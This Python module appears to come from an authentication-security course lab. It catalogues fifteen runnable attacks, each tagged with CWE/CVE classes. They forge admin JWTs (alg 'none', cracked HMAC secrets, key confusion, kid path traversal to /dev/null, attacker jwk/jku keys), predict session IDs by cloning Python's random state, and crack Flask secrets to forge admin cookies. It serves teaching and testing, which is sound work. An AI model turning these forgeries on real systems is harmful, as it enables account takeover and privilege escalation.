"""The attacks of lesson 06 as a catalogue: each ``Attack`` has an id, its lesson number, the
advisory class it belongs to, the server kinds it applies to, and a ``run(target) -> Finding``.

    ATTACKS           every attack, in lesson order
    ATTACKS_BY_ID     the same by id ("jwt-alg-none", "session-fixation", ...)

An attack raises NotApplicable when the server gives it nothing to work on.
"""

from __future__ import annotations

import contextlib
import dataclasses
import functools
import http.cookiejar
from collections.abc import Callable

import jwt
import requests
from cryptography.hazmat.primitives.asymmetric import rsa
from flask import Flask

from authlab.attacks import jwt_attacks as jwt_
from authlab.attacks import session_attacks as sessions
from authlab.attacks.key_sources import jku_token, recover_rsa_public_key
from authlab.attacks.probes import (
    TIMEOUT,
    Finding,
    Target,
    csrf_probe,
    fixation_probe,
    replay_after_logout,
    token_theft_probe,
    verdict,
)
from authlab.errors import AuthlabError
from authlab.server import serve
from authlab.signing_keys import SigningKey
from authlab.weak import weak_secrets

__all__ = ["ATTACKS", "ATTACKS_BY_ID", "Attack", "NotApplicable"]

JWT_KINDS = ("jwt-header", "jwt-cookie")
COOKIE_KINDS = ("session", "jwt-cookie")
SAMPLE_LOGINS = 4


class NotApplicable(AuthlabError):
    """The attack does not apply to this server (the reason says why)."""


@dataclasses.dataclass(frozen=True)
class Attack:
    id: str
    number: int
    title: str
    advisory: str
    kinds: tuple[str, ...]
    run: Callable[[Target], Finding]


# --- JWT attacks ------------------------------------------------------------------------


def _observed_token(target: Target) -> tuple[dict, dict, str]:
    token = target.observed().token
    header, claims = jwt_.unverified(token)
    return header, claims, token


def _first_accepted(target: Target, tokens: dict[str, str]) -> Finding:
    results = [verdict(target.profile(token=token), what) for what, token in tokens.items()]
    return next((result for result in results if result), results[-1])


def _unverified(target: Target) -> Finding:
    _, _, token = _observed_token(target)
    return verdict(target.profile(token=jwt_.tamper_claims(token, sub="admin")), "payload edited to sub=admin")


def _alg_none(target: Target) -> Finding:
    _, claims, _ = _observed_token(target)
    admin = jwt_.as_user(claims)
    spellings = ("none", "None", "NONE")
    return _first_accepted(target, {f'alg "{alg}"': jwt_.forge_unsigned(admin, alg) for alg in spellings})


def _weak_secret(target: Target) -> Finding:
    header, claims, token = _observed_token(target)
    if not str(header.get("alg", "")).upper().startswith("HS"):
        raise NotApplicable(f"signed with {header.get('alg')}: no shared secret")
    secret = jwt_.crack_hs256(token)
    if secret is None:
        return Finding(False, f"the secret is none of the {len(weak_secrets())} common ones")
    extra = {name: header[name] for name in ("kid", "typ") if name in header}  # the server's own header
    forged = jwt_.forge_hs256(jwt_.as_user(claims), secret, extra)
    return verdict(target.profile(token=forged), f"secret cracked ({secret!r}), admin token forged")


def _published_public_key(target: Target):
    for path in ("/.well-known/jwks.json", "/jwks.json", "/public-key.pem"):
        response = requests.get(target.url + path, timeout=TIMEOUT)
        if response.ok and path.endswith(".pem"):
            return response.content
        if response.ok:
            with contextlib.suppress(ValueError, KeyError, IndexError, TypeError):
                return jwt_.public_key_pem(response.json()["keys"][0])
    return None


def _confused(target: Target, claims: dict, public, how: str) -> Finding:
    pem = jwt_.public_key_pem(public)
    admin = jwt_.as_user(claims)
    return _first_accepted(target, {f"{how}, HS256 keyed with its PEM{suffix}": jwt_.alg_confusion_token(key, admin)
                                    for suffix, key in (("", pem), (" (stripped)", pem.strip()))})


def _alg_confusion(target: Target) -> Finding:
    header, claims, _ = _observed_token(target)
    if str(header.get("alg", "")).upper()[:2] not in ("RS", "ES", "PS"):
        raise NotApplicable(f"signed with {header.get('alg')}: no public key to confuse with a secret")
    public = target.public_key or _published_public_key(target)
    if public is None:
        raise NotApplicable("the public key is not published here: pass it (--public-key)")
    return _confused(target, claims, public, "public key")


def _signed_by(public: rsa.RSAPublicKey, token: str) -> bool:
    """The signature verifies with ``public`` (only the signature: claims do not matter here)."""
    with contextlib.suppress(jwt.InvalidTokenError):
        return bool(jwt.api_jws.decode_complete(token, public, algorithms=["RS256", "RS384", "RS512"]))
    return False


def _hidden_key_confusion(target: Target) -> Finding:
    header, claims, first = _observed_token(target)
    if not str(header.get("alg", "")).upper().startswith("RS"):
        raise NotApplicable(f"signed with {header.get('alg')}: the modulus comes from RSASSA-PKCS1-v1_5 signatures")
    second = target.login().token
    known = target.public_key  # known to the battery for the course's servers: confirmed, not computed again
    if isinstance(known, rsa.RSAPublicKey) and _signed_by(known, first) and _signed_by(known, second):
        return _confused(target, claims, known, "key confirmed by two signatures")
    return _confused(target, claims, recover_rsa_public_key(first, second), "key recovered from two tokens")


def _kid_injection(target: Target) -> Finding:
    _, claims, _ = _observed_token(target)
    admin = jwt_.as_user(claims)
    return _first_accepted(target, {f"kid={kid!r}, empty key": jwt_.kid_injection_token(admin, kid)
                                    for kid in (jwt_.DEV_NULL_KID, "/dev/null")})


@functools.cache
def _attacker_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _embedded_jwk(target: Target) -> Finding:
    _, claims, _ = _observed_token(target)
    forged = jwt_.embedded_jwk_token(jwt_.as_user(claims), _attacker_key())
    return verdict(target.profile(token=forged), "signed with the attacker's key, sent in the jwk header")


def _jku(target: Target) -> Finding:
    _, claims, _ = _observed_token(target)
    attacker = SigningKey()
    site = Flask("attacker-jwks")
    site.get("/jwks.json")(attacker.jwks)
    with serve(site, name=f"battery-attacker-jwks-{target.name}", show=False) as server:
        forged = jku_token(jwt_.as_user(claims), server.url + "/jwks.json", attacker)
        return verdict(target.profile(token=forged), "signed with the attacker's key, its key set named in jku")


def _expired(target: Target) -> Finding:
    header, claims, _ = _observed_token(target)
    if target.signing_key is None:
        raise NotApplicable("minting a token captured long ago needs the server's key (--hmac-secret/--private-key)")
    alg = header.get("alg", "HS256")
    typ = {"typ": header["typ"]} if "typ" in header else None  # refused for its time claims alone, not its type
    return _first_accepted(target, {
        "token expired an hour ago": jwt_.expired_token(claims, target.signing_key, alg, headers=typ),
        "token not valid for another hour": jwt_.not_yet_valid_token(claims, target.signing_key, alg, headers=typ),
    })


# --- session and cookie attacks -----------------------------------------------------------


def _anonymous_ids(target: Target, cookie_name: str, count: int) -> list[str]:
    """Session IDs the server hands a visitor at GET / (a fresh visitor each time), if it hands any out."""
    visitor = requests.Session()
    visitor.cookies.set_policy(http.cookiejar.DefaultCookiePolicy(allowed_domains=[]))  # never send one back
    ids = []
    for _ in range(count):
        cookies = sessions.probe_cookie_flags(visitor.get(target.url + "/", timeout=TIMEOUT))
        ids += [c.value for c in cookies if c.name == cookie_name]
        if not ids:
            return []
    return ids


def _predictable(target: Target) -> Finding:
    cookie_name = target.observed().cookie_name
    observed = _anonymous_ids(target, cookie_name, 16)
    source = "visitor IDs from GET /"
    if not observed:
        observed = [target.login().client.cookies[cookie_name] for _ in range(SAMPLE_LOGINS)]
        source = "IDs issued at login"
    report = sessions.session_id_entropy(observed)
    if report.guessable or report.alphabet != "hex":
        return Finding(report.guessable, f"{source}: {report}")
    observed += _anonymous_ids(target, cookie_name, 141)  # hex that looks random: is it Python's random?
    with contextlib.suppress(ValueError):
        clone = sessions.clone_python_random(observed[:-1])
        if f"{clone.getrandbits(128):032x}" == observed[-1]:
            return Finding(True, "Python random's state rebuilt from 156 visitor IDs: the next ID was predicted")
    return Finding(False, f"{source}: {report}; not Python's random either")


def _flask_secret(target: Target) -> Finding:
    login = target.observed()
    cookie = login.client.cookies.get(login.cookie_name)
    try:
        data = sessions.decode_flask_session(cookie)
    except ValueError:
        raise NotApplicable("the cookie is an opaque ID, not a signed Flask session") from None
    secret = sessions.crack_flask_session(cookie)
    if secret is None:
        return Finding(False, f"the SECRET_KEY is none of the {len(weak_secrets())} common ones")
    admin = {key: "admin" if value == target.username else value for key, value in data.items()}
    forged = sessions.forge_flask_session(admin, secret)
    return verdict(target.profile(cookies={login.cookie_name: forged}), f"SECRET_KEY {secret!r} cracked, cookie forged")


def _token_theft(target: Target) -> Finding:
    if target.kind == "jwt-header":
        raise NotApplicable("a bearer token is in the page's JavaScript by design: only escaping and CSP protect it")
    return token_theft_probe(target)


ATTACKS = (
    Attack("jwt-unverified", 1, "signature never verified", "CWE-347", JWT_KINDS, _unverified),
    Attack("jwt-alg-none", 2, 'alg "none" accepted', "CWE-347; CVE-2022-23540", JWT_KINDS, _alg_none),
    Attack("jwt-weak-secret", 3, "weak HMAC secret cracked offline", "CWE-1391, CWE-321", JWT_KINDS, _weak_secret),
    Attack("jwt-alg-confusion", 4, "public key used as HS256 secret",
           "CWE-347; CVE-2015-9235, CVE-2016-10555, CVE-2017-11424", JWT_KINDS, _alg_confusion),
    Attack("jwt-hidden-key-confusion", 5, "unpublished RS256 key recovered, then used as HS256 secret", "CWE-347",
           JWT_KINDS, _hidden_key_confusion),
    Attack("jwt-kid-injection", 6, "kid header path traversal", "CWE-22 (CWE-89 for SQL lookups)", JWT_KINDS,
           _kid_injection),
    Attack("jwt-embedded-jwk", 7, "jwk header key trusted", "CWE-347; CVE-2018-0114", JWT_KINDS, _embedded_jwk),
    Attack("jwt-jku", 8, "jku header URL trusted", "CWE-347, CWE-918", JWT_KINDS, _jku),
    Attack("jwt-expired", 9, "expired / not-yet-valid token accepted", "CWE-613", JWT_KINDS, _expired),
    Attack("session-predictable", 10, "predictable session IDs", "CWE-330, CWE-338, CWE-340", ("session",),
           _predictable),
    Attack("session-fixation", 11, "session fixation", "CWE-384", ("session",), fixation_probe),
    Attack("flask-weak-secret", 12, "Flask SECRET_KEY cracked, session forged", "CWE-1391; CVE-2023-27524",
           ("session",), _flask_secret),
    Attack("logout-replay", 13, "credential still valid after logout", "CWE-613",
           ("session", "jwt-header", "jwt-cookie"), replay_after_logout),
    Attack("csrf", 14, "cross-site request forgery", "CWE-352", COOKIE_KINDS, csrf_probe),
    Attack("xss-token-theft", 15, "login cookie readable by script", "CWE-1004, CWE-79",
           ("session", "jwt-header", "jwt-cookie"), _token_theft),
)
ATTACKS_BY_ID = {attack.id: attack for attack in ATTACKS}
